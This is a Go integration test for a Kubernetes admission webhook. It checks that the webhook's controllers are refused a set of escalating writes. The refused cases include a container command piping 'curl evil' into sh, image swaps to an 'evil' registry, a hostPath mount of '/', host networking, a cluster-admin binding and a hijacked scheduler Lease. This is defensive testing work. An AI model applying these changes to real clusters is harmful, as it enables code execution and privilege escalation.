//go:build integration

package install

import (
	"context"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/singleton-webhook/singleton-webhook/internal/testenv"
)

// restraintFixtures are the objects the cases write to, made by the
// administrator: some a singleton's, some not.
type restraintFixtures struct {
	admin     client.Client
	ns        string
	systemPod *corev1.Pod // kube-system, not a singleton's
	otherPod  *corev1.Pod // a user's, not a singleton's
	pod       *corev1.Pod // a replicas-mode singleton's, gated
	plain     *appsv1.Deployment
	single    *appsv1.Deployment // replicas mode, admitted by the webhook
	election  *appsv1.Deployment // election mode, annotated before the webhook was installed
}

func newRestraintFixtures(ctx context.Context, t *testing.T, env *testenv.Env) *restraintFixtures {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "team-"}}
	if err := env.Client.Create(ctx, ns); err != nil {
		t.Fatal(err)
	}
	f := &restraintFixtures{
		admin:     env.Client,
		ns:        ns.Name,
		systemPod: plainPod(metav1.NamespaceSystem, "kube-proxy-x"),
		otherPod:  plainPod(ns.Name, "other"),
		pod:       singletonPod(ns.Name, "single-0", "single"),
		plain:     loadDeployment("plain"),
		single:    loadDeployment("single"),
		election:  loadDeployment("election"),
	}
	f.plain.Namespace, f.single.Namespace, f.election.Namespace = ns.Name, ns.Name, ns.Name
	f.plain.Annotations = nil
	f.election.Annotations = map[string]string{"singleton": "true", "singleton.dev/mode": "election"}
	for _, o := range []client.Object{f.systemPod, f.otherPod, f.pod, f.plain, f.single,
		lease(metav1.NamespaceSystem, "kube-scheduler", "kube-scheduler-node-1"),
		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "app-reader", Namespace: ns.Name},
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"list"}}}},
		// Another singleton's Role, as an administrator might have written it.
		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "singleton-elector-y", Namespace: ns.Name},
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"},
				ResourceNames: []string{"y"}, Verbs: []string{"get", "update", "watch"}}}},
	} {
		if err := env.Client.Create(ctx, o); err != nil {
			t.Fatalf("create %T %s: %v", o, o.GetName(), err)
		}
	}
	// An election singleton annotated while no webhook was installed: the
	// drift controller's write-back is what injects its sidecar.
	api := env.Clientset.AdmissionregistrationV1().MutatingWebhookConfigurations()
	if err := api.Delete(ctx, "singleton-webhook", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Create(ctx, f.election); err != nil {
		t.Fatal(err)
	}
	env.InstallWebhookConfiguration(t, env.CABundle)
	if err := testenv.WaitForMutation(ctx, env.Config); err != nil {
		t.Fatal(err)
	}
	return f
}

// jsonPatch applies a JSON patch to o.
func jsonPatch(o client.Object, patch string) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		return c.Patch(ctx, o.DeepCopyObject().(client.Object), client.RawPatch(types.JSONPatchType, []byte(patch)))
	}
}

// mergePatch applies a merge patch to o.
func mergePatch(o client.Object, patch string) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		return c.Patch(ctx, o.DeepCopyObject().(client.Object), client.RawPatch(types.MergePatchType, []byte(patch)))
	}
}

// updateDeployment reads d and writes it back changed by change, as the
// drift controller writes a Deployment back.
func updateDeployment(d *appsv1.Deployment, change func(*appsv1.Deployment)) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		got := &appsv1.Deployment{}
		if err := c.Get(ctx, client.ObjectKeyFromObject(d), got); err != nil {
			return err
		}
		change(got)
		return c.Update(ctx, got)
	}
}

func create(o client.Object) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		return c.Create(ctx, o.DeepCopyObject().(client.Object))
	}
}

func remove(o client.Object) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		return c.Delete(ctx, o.DeepCopyObject().(client.Object))
	}
}

const setImage = `[{"op":"replace","path":"/spec/containers/0/image","value":"registry.example/evil:1"}]`

// refused lists writes the webhook's controllers never make.
func (f *restraintFixtures) refused() map[string]restrained {
	single := f.single
	foreignBinding := electorBinding(single, "app-reader", roleRef("Role", "app-reader"))
	return map[string]restrained{
		"patch the image of a Pod in kube-system":        {jsonPatch(f.systemPod, setImage), notSingletonPod},
		"annotate a Pod in kube-system":                  {mergePatch(f.systemPod, `{"metadata":{"annotations":{"a":"b"}}}`), notSingletonPod},
		"relabel a Pod in kube-system":                   {mergePatch(f.systemPod, `{"metadata":{"labels":{"app":"evil"}}}`), notSingletonPod},
		"set the role label of a Pod in kube-system":     {mergePatch(f.systemPod, `{"metadata":{"labels":{"singleton.dev/role":"leader"}}}`), notSingletonPod},
		"set the role label of a Pod not a singleton's":  {mergePatch(f.otherPod, `{"metadata":{"labels":{"singleton.dev/role":"leader"}}}`), notSingletonPod},
		"patch the image of a singleton's Pod":           {jsonPatch(f.pod, setImage), podSpec},
		"annotate a singleton's Pod":                     {mergePatch(f.pod, `{"metadata":{"annotations":{"a":"b"}}}`), podMetadata},
		"add a finalizer to a singleton's Pod":           {mergePatch(f.pod, `{"metadata":{"finalizers":["example.com/hold"]}}`), podMetadata},
		"change another label of a singleton's Pod":      {mergePatch(f.pod, `{"metadata":{"labels":{"app":"evil"}}}`), podLabels},
		"remove the deployment label of a singleton Pod": {mergePatch(f.pod, `{"metadata":{"labels":{"singleton.dev/deployment":null}}}`), podLabels},
		"set a role other than leader or standby":        {mergePatch(f.pod, `{"metadata":{"labels":{"singleton.dev/role":"boss"}}}`), podLabels},
		"lift another controller's scheduling gate": {jsonPatch(f.pod,
			`[{"op":"replace","path":"/spec/schedulingGates","value":[{"name":"singleton.dev/one-at-a-time"}]}]`), podSpec},
		"update a Deployment without the singleton annotation": {updateDeployment(f.plain, func(d *appsv1.Deployment) {
			d.Spec.Replicas = ptr.To[int32](5)
		}), notSingletonDep},
		"change a singleton Deployment's image": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Image = "registry.example/evil:1"
		}), containers},
		"change a singleton Deployment's command": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
		}), containers},
		"change a singleton Deployment's ServiceAccount": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.ServiceAccountName = "admin"
		}), templateSpec},
		"run a singleton Deployment on the host network": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.HostNetwork = true
		}), templateSpec},
		"add a hostPath volume to a singleton Deployment": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "root",
				VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}), templateSpec},
		"relabel a singleton Deployment's pod template": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Template.Labels["tier"] = "evil"
		}), templateMetadata},
		"relabel a singleton Deployment": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Labels["tier"] = "evil"
		}), depLabels},
		"turn a singleton Deployment's annotation off": {updateDeployment(single, func(d *appsv1.Deployment) {
			d.Annotations["singleton"] = "false"
		}), depFields},
		"create a Role it does not label as its own": {create(&rbacv1.Role{
			ObjectMeta: metav1.ObjectMeta{Name: "singleton-elector-x", Namespace: f.ns}}), notOurs},
		"create a Role granting patch on Pods": {create(&rbacv1.Role{ObjectMeta: ownedMeta(single, "singleton-elector-x"),
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"patch"}}}}), roleRules},
		"create a Role granting create on Leases": {create(electorRole(single, "get", "update", "create")), roleRules},
		"create a Role granting every Lease": {create(&rbacv1.Role{ObjectMeta: ownedMeta(single, "singleton-elector-x"),
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"},
				Verbs: []string{"get", "update", "watch"}}}}), roleRules},
		"bind cluster-admin's ClusterRole": {create(electorBinding(single, "singleton-elector-x",
			roleRef("ClusterRole", "cluster-admin"))), rbacEscalation},
		"bind its own ClusterRole to another ServiceAccount": {create(electorBinding(single, "singleton-elector-x",
			roleRef("ClusterRole", "singleton-webhook"))), bindingRef},
		"bind a Role not its own":       {create(foreignBinding), bindingRef},
		"bind another singleton's Role": {create(electorBinding(single, "singleton-elector-x", roleRef("Role", "singleton-elector-y"))), bindingRef},
		"update a Lease it did not create": {updateLease(metav1.NamespaceSystem, "kube-scheduler", func(l *coordinationv1.Lease) {
			l.Spec.HolderIdentity = ptr.To("evil")
		}), notOurs},
		"adopt a Lease it did not create": {updateLease(metav1.NamespaceSystem, "kube-scheduler", func(l *coordinationv1.Lease) {
			l.Labels = map[string]string{"app.kubernetes.io/managed-by": "singleton-webhook"}
		}), notOurs},
		"create an elector's Lease with a holder": {create(ownedLease(single, "held", "evil")), leaseSpec},
		"delete a Role it did not create":         {remove(&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "app-reader", Namespace: f.ns}}), notOurs},
		"create a Service it does not label as its own": {create(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "single-leader", Namespace: f.ns},
			Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 80}}}}), notOurs},
		"create a NodePort leader Service": {create(leaderSvc(single, corev1.ServiceTypeNodePort)), leaderService},
		"create a Service named for no Deployment": {create(&corev1.Service{ObjectMeta: ownedMeta(single, "other-leader"),
			Spec: corev1.ServiceSpec{Selector: map[string]string{"singleton.dev/role": "leader"}, Ports: []corev1.ServicePort{{Port: 80}}}}), leaderService},
	}
}

// allowedCase is one write of the controllers, in the order they make it,
// or a refusal that needs an object an earlier write made.
type allowedCase struct {
	name string
	restrained
}

// allowed lists what the webhook's controllers write, in an order where
// each write finds what it needs, with the refusals that need those objects.
func (f *restraintFixtures) allowed() []allowedCase {
	single, pod := f.single, f.pod
	ours := roleRef("Role", "singleton-elector-"+single.Name)
	ownLease := lease("singleton-system", "singleton-webhook.singleton.dev", "singleton-webhook-abc_1")
	return []allowedCase{
		{"set the role label leader", restrained{mergePatch(pod, `{"metadata":{"labels":{"singleton.dev/role":"leader"}}}`), ""}},
		{"set the role label standby", restrained{mergePatch(pod, `{"metadata":{"labels":{"singleton.dev/role":"standby"}}}`), ""}},
		{"remove the role label", restrained{mergePatch(pod, `{"metadata":{"labels":{"singleton.dev/role":null}}}`), ""}},
		{"lift the gate", restrained{liftGate(f.admin, pod), ""}},
		{"re-pin a singleton Deployment", restrained{updateDeployment(single, func(d *appsv1.Deployment) {
			d.Spec.Replicas = ptr.To[int32](3) // the mutation pins it back to 1
		}), ""}},
		// The write-back injects the sidecar and adds the singleton label.
		{"write back an election singleton admitted before the webhook", restrained{updateDeployment(f.election, func(*appsv1.Deployment) {}), ""}},
		{"create its Lease", restrained{create(ownedLease(single, single.Name, "")), ""}},
		{"refused: give its elector's Lease a holder", restrained{updateLease(f.ns, single.Name, func(l *coordinationv1.Lease) {
			l.Spec.HolderIdentity = ptr.To("evil")
		}), leaseSpec}},
		{"create its Role", restrained{create(electorRole(single, "get", "update", "watch")), ""}},
		{"restore its Role's rules", restrained{updateRole(electorRole(single, "watch", "get", "update")), ""}},
		{"create its RoleBinding", restrained{create(electorBinding(single, ours.Name, ours)), ""}},
		{"create its leader Service", restrained{create(leaderSvc(single, "")), ""}},
		{"delete its RoleBinding", restrained{remove(electorBinding(single, ours.Name, ours)), ""}},
		{"delete its Role", restrained{remove(electorRole(single)), ""}},
		{"delete its leader Service", restrained{remove(leaderSvc(single, "")), ""}},
		{"create its leader-election Lease", restrained{create(ownLease), ""}},
		{"renew its leader-election Lease", restrained{updateLease(ownLease.Namespace, ownLease.Name, func(l *coordinationv1.Lease) {
			now := metav1.NewMicroTime(time.Now())
			l.Spec.RenewTime = &now
		}), ""}},
		{"record an Event", restrained{create(&eventsv1.Event{
			ObjectMeta: metav1.ObjectMeta{GenerateName: "single-", Namespace: f.ns}, EventTime: metav1.NowMicro(),
			Regarding: corev1.ObjectReference{Kind: "Deployment", Namespace: f.ns, Name: single.Name},
			Type:      corev1.EventTypeNormal, Reason: "Test", Action: "Test", ReportingController: "singleton.dev/webhook",
			ReportingInstance: "test"}), ""}},
	}
}

// liftGate removes the webhook's gate under an optimistic lock, as the gate
// controller does; the Pod is read by admin, as the webhook reads it from
// its cache (it may list Pods, not get them).
func liftGate(admin client.Client, p *corev1.Pod) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		got := &corev1.Pod{}
		if err := admin.Get(ctx, client.ObjectKeyFromObject(p), got); err != nil {
			return err
		}
		orig := got.DeepCopy()
		got.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "example.com/quota"}}
		return c.Patch(ctx, got, client.MergeFromWithOptions(orig, client.MergeFromWithOptimisticLock{}))
	}
}

// updateLease reads the Lease ns/name, changes it and writes it back (the
// webhook may get and update Leases, not patch them).
func updateLease(ns, name string, change func(*coordinationv1.Lease)) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		got := &coordinationv1.Lease{}
		if err := c.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, got); err != nil {
			return err
		}
		change(got)
		return c.Update(ctx, got)
	}
}

// updateRole writes want's rules over the Role of its name.
func updateRole(want *rbacv1.Role) func(context.Context, client.Client) error {
	return func(ctx context.Context, c client.Client) error {
		got := &rbacv1.Role{}
		if err := c.Get(ctx, client.ObjectKeyFromObject(want), got); err != nil {
			return err
		}
		got.Rules = want.Rules
		return c.Update(ctx, got)
	}
}

// leaderSvc is the leader Service of d; typ empty: ClusterIP.
func leaderSvc(d *appsv1.Deployment, typ corev1.ServiceType) *corev1.Service {
	return &corev1.Service{ObjectMeta: ownedMeta(d, d.Name+"-leader"), Spec: corev1.ServiceSpec{
		Type:     typ,
		Selector: map[string]string{"app": d.Name, "singleton.dev/role": "leader"},
		Ports:    []corev1.ServicePort{{Name: "http", Port: 8080}},
	}}
}

// ownedLease is a Lease the elector RBAC controller would make for d.
func ownedLease(d *appsv1.Deployment, name, holder string) *coordinationv1.Lease {
	l := lease(d.Namespace, name, holder)
	l.ObjectMeta = ownedMeta(d, name)
	return l
}
